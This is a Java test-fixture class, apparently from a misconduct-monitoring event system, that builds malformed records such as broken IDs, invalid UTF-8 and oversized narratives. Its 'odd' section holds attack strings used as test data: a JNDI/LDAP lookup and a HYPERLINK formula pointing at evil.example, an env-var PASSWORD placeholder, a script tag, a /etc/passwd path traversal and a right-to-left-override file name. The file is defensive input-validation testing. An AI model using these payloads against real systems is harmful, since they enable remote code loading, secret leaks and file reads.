package org.misconductmonitor.hostile;

import static org.misconductmonitor.event.Rejection.Reason.INVALID_ID;
import static org.misconductmonitor.event.Rejection.Reason.KEY_MISMATCH;
import static org.misconductmonitor.event.Rejection.Reason.NOT_UTF8;
import static org.misconductmonitor.event.Rejection.Reason.TOO_LARGE;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.avro.util.Utf8;
import org.misconductmonitor.topology.MonitorTopic;

/** Texts that are too long, are no texts, or look like others. */
final class BrokenTexts {
    private static final List<String> IDS = List.of(
            "eventId",
            "tenantId",
            "officerId",
            "caseId",
            "allegationId",
            "supersedes",
            "publisherId",
            "handlerId",
            "sharedAllegationId",
            "complainantId",
            "toOfficerId",
            "investigationId",
            "linkedCaseId");

    private BrokenTexts() {}

    static void into(Records records) {
        ids(records);
        notUtf8(records);
        odd(records);
        huge(records);
    }

    private static void ids(Records records) {
        for (String id : IDS) {
            records.field(id + " with NUL", id, "a\u0000b", INVALID_ID);
            records.field(id + " with a line break", id, "a\nb", INVALID_ID);
            records.field(id + " is blank", id, "  ", INVALID_ID);
            records.field(id + " of 201 characters", id, "i".repeat(201), INVALID_ID);
        }
        records.field("an empty id", "eventId", "", INVALID_ID);
        records.field("an id with DEL", "eventId", "a\u007Fb", INVALID_ID);
        records.field("an id with C1", "eventId", "a\u0085b", INVALID_ID);
        records.field("an id with an escape sequence", "caseId", "\u001B[2J", INVALID_ID);
        records.field("an id of 200 characters", "caseId", "i".repeat(200), null);
        records.field("an id of a megabyte", "caseId", "i".repeat(1_000_000), INVALID_ID);
        records.field(
                "an officer with a blank behind",
                "officerId",
                Records.officer(MonitorTopic.ALLEGATIONS) + " ",
                KEY_MISMATCH);
        records.field(
                "an officer of another case",
                "officerId",
                Records.officer(MonitorTopic.ALLEGATIONS).toUpperCase(java.util.Locale.ROOT),
                KEY_MISMATCH);
    }

    private static void notUtf8(Records records) {
        Map<String, byte[]> wrong = new LinkedHashMap<>();
        wrong.put("a lone continuation", bytes('a', 0x80));
        wrong.put("a start without an end", bytes('a', 0xF0, 0x9F, 0x92));
        wrong.put("an overlong zero", bytes('a', 0xC0, 0x80));
        wrong.put("half a surrogate pair", bytes('a', 0xED, 0xA0, 0x80));
        wrong.put("beyond Unicode", bytes('a', 0xF4, 0x90, 0x80, 0x80));
        wrong.put("Latin-1", bytes('G', 'r', 0xF6, 0xDF, 'e'));
        wrong.put("ones", bytes(0xFF, 0xFE));
        wrong.forEach((name, bytes) -> {
            for (String field : List.of("eventId", "officerId", "narrative", "category")) {
                records.field(field + " of " + name, field, new Utf8(bytes), NOT_UTF8);
            }
        });
    }

    private static void odd(Records records) {
        records.field("the replacement character itself", "category", "\uFFFD", null);
        records.field("an id of the replacement character", "caseId", "\uFFFD", null);
        records.field("controls in a text", "narrative", "\u0000\u0001\u001B[31m\n", null);
        records.field("no character at all", "narrative", "", null);
        records.field("beyond the first plane", "category", "\uD83D\uDC6E\u200D\u2640\uFE0F", null);
        records.field("right to left", "source", "\u202Etxt.exe", null);
        records.field("noncharacters", "category", "\uFFFF\uFDD0", null);
        records.field("separators of lines", "source", "a\u2028b\u2029c", null);
        records.field("combining marks", "category", "a" + "\u0301".repeat(1_000), null);
        records.field("a formula", "category", "=HYPERLINK(\"http://evil.example\")", null);
        records.field("a placeholder", "category", "${env:PASSWORD}", null);
        records.field("a look-up", "narrative", "${jndi:ldap://evil.example/a}", null);
        records.field("markup", "category", "<script>alert(1)</script>", null);
        records.field("a path", "caseId", "../../etc/passwd", null);
    }

    private static void huge(Records records) {
        records.field("a narrative at the limit", "narrative", "x".repeat(262_000), null);
        records.field("a narrative beyond the limit", "narrative", "x".repeat(262_145), TOO_LARGE);
        records.field("a narrative of a megabyte", "narrative", "x".repeat(1_040_000), TOO_LARGE);
        records.changed("two halves beyond the limit", MonitorTopic.ALLEGATIONS, TOO_LARGE, record -> {
            record.put("narrative", "x".repeat(140_000));
            record.put("categoryText", "y".repeat(140_000));
        });
        records.field("a narrative of wide characters", "narrative", "\uD83D\uDC6E".repeat(131_000), null);
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }
}
